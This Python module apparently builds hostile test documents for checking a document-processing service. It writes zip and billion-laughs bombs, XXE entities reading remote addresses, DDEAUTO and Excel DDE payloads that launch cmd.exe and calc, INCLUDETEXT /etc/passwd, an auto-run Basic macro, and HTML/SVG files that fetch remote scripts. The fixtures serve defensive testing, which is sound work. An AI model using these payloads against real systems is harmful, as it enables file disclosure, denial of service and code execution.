"""Office documents that are made to harm: each function writes one, small on the disk, or gives its text."""

import zipfile
from collections.abc import Iterator
from pathlib import Path

import documents_made as made
import docx
import docx.shared

_MEGABYTE = 1 << 20
_SECRET_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"


def _repacked(path: Path, changes: dict[str, bytes | Iterator[bytes]]) -> Path:
    """The package with parts replaced or added."""
    with zipfile.ZipFile(path) as archive:
        parts: dict[str, bytes | Iterator[bytes]] = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts, **changes}.items():
            with archive.open(name, "w", force_zip64=True) as part:
                for piece in [content] if isinstance(content, bytes) else content:
                    part.write(piece)
    return path


def _odt(path: Path, content: str, more: dict[str, tuple[str, bytes]] | None = None) -> Path:
    """An OpenDocument text of this content, and of parts with their media types."""
    parts = {name: octets for name, (_, octets) in (more or {}).items()}
    listed = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{kind}"/>'
        for name, kind in (
            ("/", "application/vnd.oasis.opendocument.text"), ("content.xml", "text/xml"),
            *((name, kind) for name, (kind, _) in (more or {}).items()),
        )
    )  # fmt: skip
    manifest = f'<manifest:manifest xmlns:manifest="{_ODF}:manifest:1.0">{listed}</manifest:manifest>'
    made.odt(path)
    return _repacked(
        path, {**parts, "content.xml": content.encode(), "META-INF/manifest.xml": manifest.encode()}
    )


def swollen(path: Path, part: str, megabytes: int = 600) -> Path:
    """The package, of which one part says that it has so many megabytes."""
    with zipfile.ZipFile(path, "a") as archive:
        archive.getinfo(part).file_size = megabytes << 20
        archive.writestr("docProps/thumbnail.txt", "so that the directory is written anew")
    return path


def docx_with_a_picture(path: Path, picture: Path) -> Path:
    """A Word document with a picture in it."""
    document = docx.Document()
    document.add_paragraph("Below is a picture")
    document.add_picture(str(picture), width=docx.shared.Inches(3))
    document.save(str(path))
    return path


def docx_of_blanks(path: Path, *, megabytes: int) -> Path:
    """A Word document with so many megabytes of blanks in its text, a thousandth of that when packed."""

    def text() -> Iterator[bytes]:
        yield f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t xml:space="preserve">'.encode()
        for _ in range(megabytes):
            yield b" " * _MEGABYTE
        yield b"</w:t></w:r></w:p></w:body></w:document>"

    return _repacked(made.docx_letter(path), {"word/document.xml": text()})


def odt_content(paragraphs: str, *, before: str = "") -> str:
    """content.xml of an OpenDocument text."""
    return (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{_ODF}:office:1.0" '
        f'xmlns:text="{_ODF}:text:1.0" xmlns:draw="{_ODF}:drawing:1.0" xmlns:svg="{_ODF}:svg-compatible:1.0" '
        f'xmlns:script="{_ODF}:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
        f"{before}<office:body><office:text>{paragraphs}</office:text></office:body></office:document-content>"
    )


def docx_of_laughs(path: Path) -> Path:
    """A Word document whose text is an entity of a thousand million laughs."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    text = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "laugh ">{entities}]><w:document xmlns:w="{_W}">'
        "<w:body><w:p><w:r><w:t>&e9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return _repacked(made.docx_letter(path), {"word/document.xml": text.encode()})


def docx_of_an_outside_entity(path: Path, address: str) -> Path:
    """A Word document with a paragraph that is an external entity."""
    text = (
        f'<?xml version="1.0"?>{_SECRET_ENTITY.format(address=address)}<w:document xmlns:w="{_W}"><w:body>'
        "<w:p><w:r><w:t>Before</w:t></w:r></w:p><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>"
    )
    return _repacked(made.docx_letter(path), {"word/document.xml": text.encode()})


def docx_of_fields(path: Path, address: str) -> Path:
    """A Word document with fields that fetch and run, and with a template that is elsewhere."""
    codes = (
        f"INCLUDEPICTURE &quot;{address}&quot;",
        f"INCLUDETEXT &quot;{address}&quot;",
        "INCLUDETEXT /etc/passwd",
        r"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;",
    )
    fields = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Result</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in codes
    )
    document = f'<w:document xmlns:w="{_W}"><w:body>{fields}</w:body></w:document>'
    settings = f'<w:settings xmlns:w="{_W}" xmlns:r="{_R}"><w:attachedTemplate r:id="rT"/></w:settings>'
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rT" '
        f'Type="{_R}/attachedTemplate" Target="{address}" TargetMode="External"/></Relationships>'
    )
    return _repacked(
        made.docx_letter(path),
        {
            "word/document.xml": document.encode(),
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": relations.encode(),
        },
    )


def xlsx_of_formulas(path: Path, address: str) -> Path:
    """An Excel workbook whose cells fetch and run, without a value that was kept."""
    formulas = (
        f'WEBSERVICE("{address}")',
        f'HYPERLINK("{address}","link")',
        f"'{address}'!A1",
        "cmd|'/c calc'!A0",
        f'DDE("soffice","{address}","A1")',
    )
    rows = "".join(
        f'<row r="{row}"><c r="A{row}"><f>{formula.replace("&", "&amp;")}</f></c>'
        f'<c r="B{row}" t="inlineStr"><is><t>row {row}</t></is></c></row>'
        for row, formula in enumerate(formulas, 1)
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'
    return _repacked(made.xlsx(path), {"xl/worksheets/sheet1.xml": sheet.encode()})


def odt_with_a_macro(path: Path) -> Path:
    """An OpenDocument text with a Basic macro, bound to its opening, that writes into the text."""
    before = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:type="simple" '
        'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts>"
    )
    script = "http://openoffice.org/2000/script"
    library = "http://openoffice.org/2000/library"
    code = "Sub Main\nThisComponent.Text.String = &quot;IT RAN&quot;\nEnd Sub"
    libraries = (
        f'<library:libraries xmlns:library="{library}" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<library:library library:name="Standard" library:link="false"/></library:libraries>'
    )
    modules = (
        f'<library:library xmlns:library="{library}" library:name="Standard" library:readonly="false" '
        'library:passwordprotected="false"><library:element library:name="M"/></library:library>'
    )
    module = (
        f'<script:module xmlns:script="{script}" script:name="M" script:language="StarBasic">{code}'
        "</script:module>"
    )
    parts = {"script-lc": libraries, "Standard/script-lb": modules, "Standard/M": module}
    return _odt(
        path,
        odt_content("<text:p>With a macro</text:p>", before=before),
        {f"Basic/{name}.xml": ("text/xml", octets.encode()) for name, octets in parts.items()},
    )


def odt_of_links(path: Path, address: str) -> Path:
    """An OpenDocument text with a picture, a section and an object that are elsewhere."""
    sources = "".join(
        f'<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:{what} xlink:href="{target}" '
        'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
        for what in ("image", "object")
        for target in (address, "file:///etc/passwd")
    )
    sections = "".join(
        f'<text:section text:name="s{number}"><text:section-source xlink:href="{target}"/></text:section>'
        for number, target in enumerate((address, "file:///etc/passwd"))
    )
    content = odt_content(f"<text:p>Links</text:p>{sources}{sections}")
    return _odt(path, content)


def odt_with_a_drawing(path: Path, drawing: str) -> Path:
    """An OpenDocument text with an SVG."""
    frame = (
        '<text:p>Drawing<draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="Pictures/a.svg" '
        'xlink:type="simple"/></draw:frame></text:p>'
    )
    return _odt(path, odt_content(frame), {"Pictures/a.svg": ("image/svg+xml", drawing.encode())})


def hostile_drawing(address: str) -> str:
    """An SVG with an external entity, a picture, a style sheet and a script that are elsewhere."""
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{address}" type="text/css"?>'
        f'{_SECRET_ENTITY.format(address=address)}<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">'
        f'<image xlink:href="{address}" width="99" height="99"/><image xlink:href="file:///etc/passwd"/>'
        f'<script xlink:href="{address}"/><use xlink:href="{address}#a"/>'
        '<rect width="80" height="80" fill="black"/><text x="9" y="150">&e; seen</text></svg>'
    )


def hostile_page(address: str) -> str:
    """A web page that fetches in every way there is."""
    return (
        f'<html><head><link rel="stylesheet" href="{address}"><base href="{address}">'
        f'<meta http-equiv="refresh" content="0; url={address}"><script src="{address}"></script>'
        f'<style>@import "{address}"; body {{background: url({address})}}</style></head>'
        f'<body background="{address}"><p>What can be read</p><img src="{address}"><iframe src="{address}">'
        f'</iframe><object data="{address}"></object><embed src="{address}"><img src="file:///etc/passwd">'
        f"<iframe src='file:///etc/passwd'></iframe></body></html>"
    )


def hostile_rich_text(address: str) -> bytes:
    """An RTF with fields that fetch, and an object."""
    return (
        (
            r'{\rtf1 Letter {\field{\*\fldinst INCLUDEPICTURE "ADDRESS" \\d}{\fldrslt x}} '
            r'{\field{\*\fldinst DDEAUTO c:\\\\cmd.exe "/k calc"}{\fldrslt y}} '
            r"{\object\objautlink\rsltpict{\*\objclass Word.Document.8}{\*\objdata 0105000002000000}}"
            r"{\*\template ADDRESS}}"
        )
        .replace("ADDRESS", address)
        .encode()
    )


def large_table(path: Path, rows: int) -> Path:
    """An Excel workbook of so many rows, quickly made."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

    def sheet() -> Iterator[bytes]:
        yield f'<worksheet xmlns="{main}"><sheetData>'.encode()
        for begin in range(1, rows + 1, 5000):
            numbers = range(begin, min(begin + 5000, rows + 1))
            yield "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in numbers).encode()
        yield b"</sheetData></worksheet>"

    return _repacked(made.xlsx(path), {"xl/worksheets/sheet1.xml": sheet()})
